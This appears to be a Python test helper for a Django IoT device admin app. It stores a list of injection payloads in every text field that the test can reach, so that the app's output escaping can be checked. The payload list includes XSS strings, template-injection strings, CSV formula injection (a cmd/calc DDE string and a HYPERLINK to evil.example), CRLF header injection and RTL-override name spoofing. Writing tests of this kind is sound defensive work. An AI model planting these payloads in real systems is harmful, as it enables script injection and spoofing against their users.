"""Store harmful text in every string from IoTDA and users, for pages and exports."""

from dataclasses import dataclass, field
from itertools import batched

from django.contrib.auth.models import User
from django.db.models import F
from django.test import Client

from devices.models import Device, Product, Space
from iotda_admin.access.actor import Actor
from iotda_admin.inventory.models import SyncRun
from iotda_admin.inventory.sync import run_sync
from iotda_admin.operations.models import Operation, Target
from iotda_admin.operations.requests import TargetSpec
from iotda_admin.operations.services import dispatch
from iotda_admin.rate import connection
from policies.models import Policy
from tests.batch_task_helpers import poll_tasks_now
from tests.cloud import Cloud
from tests.operation_helpers import create, make_everything_due, run_workers

# Whatever becomes an element of the page has this attribute.
MARK = "poison"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2) poison>",
    '"><script poison>alert(3)</script>',
    "'><svg/onload=alert(4) poison>",
    "</textarea><b poison>",
    "</title></style></script><b poison>",
    "--><b poison>",
    "javascript:alert(8)",
    '" onfocus=alert(9) autofocus poison="',
    "' onmouseover=alert(10) poison='",
    "`-alert(11)-` poison=`",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(13)} &lt;b poison&gt;",
    '=HYPERLINK("http://evil.example","x")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    '\t"@x',
    "\u202etxt.exe\u2028\u200b",
    "\x1b[31mred\x07",
    "a\r\nX-Poison: 1\r\n\r\n<b poison>",
    "<style poison>*{display:none}</style>",
    '<iframe srcdoc="<script>alert(21)</script>" poison>',
    '<a href="javascript:alert(22)" poison>x</a>',
    '<form action="//evil.example" poison><button>',
    '<b hx-get="/devices/" hx-trigger="load" hx-on::load="alert(24)" poison>',
    "a\0b\ufeff<math><mtext><style><img src=x onerror=alert(25) poison>",
]
# Each name from the platform begins with it, and turns round what follows on its line.
NAME_PREFIX = "\u202eeman"
# Several in one string, where it may be long.
GROUPS = ["".join(some) for some in batched(PAYLOADS, 5)]
# What is not there to be read, or has to be what it is.
KEPT_FIELDS = {
    "device_id",
    "gateway_id",
    "product_id",
    "app_id",
    "auth_info",
    "policy_ids",
}


def payload_group(n: int) -> str:
    return GROUPS[n % len(GROUPS)]


def payload_name(n: int) -> str:
    return NAME_PREFIX + payload_group(n)


@dataclass
class Poisoned:
    devices: list[str]
    policies: list[str]
    operations: list[Operation] = field(default_factory=list)


def store_poison(cloud: Cloud) -> Poisoned:
    """Store all payloads: those of IoTDA by its API, those of users by services."""
    direct = (
        Device.objects.filter(gateway_id=F("pk"))
        .order_by("pk")
        .values_list("pk", flat=True)
    )
    state = Poisoned(
        list(direct[: len(PAYLOADS)]),
        list(Policy.objects.values_list("pk", flat=True)[:5]),
    )
    poison_devices(cloud, state)
    poison_names(cloud, state)
    assert run_sync(SyncRun.objects.create(), connection.client())
    who = [
        User.objects.create(
            username=payload[:150],
            first_name=payload[:150],
            is_staff=True,
            is_superuser=True,
        )
        for payload in map(without_nul, PAYLOADS)
    ]
    failing_binds(cloud, state, who)
    whole_refusals(cloud, state, who)
    batch_task(cloud, state, who)
    note_failures(who)
    return state


def poison_devices(cloud: Cloud, state: Poisoned) -> None:
    rows = []
    for n, id in enumerate(state.devices):
        row = cloud.call("GET", f"devices/{id}")
        row = {
            field: PAYLOADS[n]
            if isinstance(was, str) and field not in KEPT_FIELDS
            else was
            for field, was in row.items()
        }
        row |= {
            field: payload_name(n)
            for field in ("device_name", "product_name", "app_name")
        }
        row |= {field: payload_group(n) for field in ("description", "fw_version")}
        row["tags"] = [
            {"tag_key": payload, "tag_value": payload}
            for payload in (PAYLOADS[n], payload_group(n))
        ]
        if n >= len(state.devices) - 5:
            row["gateway_id"] = state.devices[n - 20]
        row.pop("policy_ids")
        rows.append(row)
        cloud.fault("ShowDevice", "status", match={"ids": [id]}, status=200, body=row)
    page = {"count": len(rows), "marker": "f" * 24}
    cloud.fault(
        "ListDevices", "status", status=200, body={"devices": rows, "page": page}
    )


def poison_names(cloud: Cloud, state: Poisoned) -> None:
    cloud.process.holds_impossible_values = True
    for n, id in enumerate(Space.objects.values_list("pk", flat=True)):
        cloud.call("PATCH", f"spaces/{id}", json={"name": payload_name(n)})
    for n, id in enumerate(Product.objects.values_list("pk", flat=True)):
        cloud.call("PATCH", f"products/{id}", json={"name": payload_name(n)})
    for n, id in enumerate(Policy.objects.values_list("pk", flat=True)):
        words = {"effect": PAYLOADS[n % 25], "actions": PAYLOADS, "resources": PAYLOADS}
        cloud.call(
            "PATCH",
            f"policies/{id}",
            json={"policy_name": payload_name(n)[:128], "statement": [words]},
        )


def request_change(
    state: Poisoned, who: User, verb: str, ids: list[str], words: str, policy: str = ""
) -> None:
    words = without_nul(words)
    names = dict(Device.objects.filter(pk__in=ids).values_list("pk", "name"))
    operation = create(
        verb,
        [TargetSpec(id, names.get(id, "")) for id in ids],
        Actor(who, words[:100], "web", "127.0.0.1"),
        reason=words,
        ticket=words[:64],
        key=f"poison {Operation.objects.count()}",
        policy_id=policy,
        policy_name=policy and Policy.objects.get(pk=policy).name,
    )
    dispatch(operation, connection.client())
    state.operations.append(operation)


def failing_binds(cloud: Cloud, state: Poisoned, who: list[User]) -> None:
    """Bind targets that IoTDA rejects with a payload as message."""
    for start_at in (0, 20):
        ids, said = (
            state.devices[start_at : start_at + 20],
            PAYLOADS[start_at : start_at + 20],
        )
        refused = [
            {"target_id": id, "error_code": payload, "error_msg": payload}
            for id, payload in zip(ids, said, strict=True)
        ]
        policy = state.policies[0]
        body = {"policy_id": policy, "success_targets": [], "failure_targets": refused}
        headers = {"X-Request-Id": printable(PAYLOADS[start_at + 1])}
        cloud.fault(
            "BindDevicePolicy",
            "status",
            match={"times": 1},
            status=200,
            body=body,
            headers=headers,
        )
        request_change(
            state,
            who[start_at],
            "policy.bind",
            ids,
            payload_group(start_at // 20),
            policy,
        )


def whole_refusals(cloud: Cloud, state: Poisoned, who: list[User]) -> None:
    for n, payload in enumerate(PAYLOADS[: 2 * len(GROUPS)]):
        said = {"error_code": payload, "error_msg": payload_group(n)}
        headers = {"X-Request-Id": printable(payload)}
        match = {"ids": [state.devices[n]], "times": 1}
        cloud.fault(
            "FreezeDevice",
            "status",
            match=match,
            status=(403, 400)[n % 2],
            headers=headers,
            **said,
        )
        request_change(state, who[n], "device.freeze", [state.devices[n]], payload)


def batch_task(cloud: Cloud, state: Poisoned, who: list[User]) -> None:
    """BATCH_TASK_ABOVE must be below twenty."""
    ids = state.devices[:20]
    request_change(state, who[3], "device.freeze", ids, payload_group(2))
    run_workers()
    chunk = state.operations[-1].chunks.get(by_task=True)
    task = {
        "task_id": chunk.task_id,
        "task_type": "freezeDevices",
        "status": "Fail",
        "status_desc": payload_group(1),
    }
    details = [
        {
            "target": id,
            "status": "Fail",
            "output": said,
            "error": {"error_code": said, "error_msg": said},
        }
        for id, said in zip(ids, PAYLOADS, strict=False)
    ]
    body = {"batchtask": task, "task_details": details, "page": {"count": len(ids)}}
    cloud.fault("ShowBatchTask", "status", status=200, body=body)
    make_everything_due()
    poll_tasks_now()


def note_failures(who: list[User]) -> None:
    """Take failures and note on them."""
    for n, pk in enumerate(
        Target.objects.filter(state="failed").values_list("pk", flat=True)[
            : 2 * len(GROUPS)
        ]
    ):
        client = Client()
        client.force_login(who[n])
        client.post("/failures/take/", {"target": pk})
        noted = {
            "target": pk,
            "save": "1",
            "note": without_nul(payload_group(n)),
            "ticket": without_nul(PAYLOADS[n])[:64],
        }
        client.post("/failures/note/", noted)


def without_nul(text: str) -> str:
    """No form takes a NUL."""
    return text.replace("\0", "")


def printable(text: str) -> str:
    return "".join(c for c in text if " " <= c <= "~")
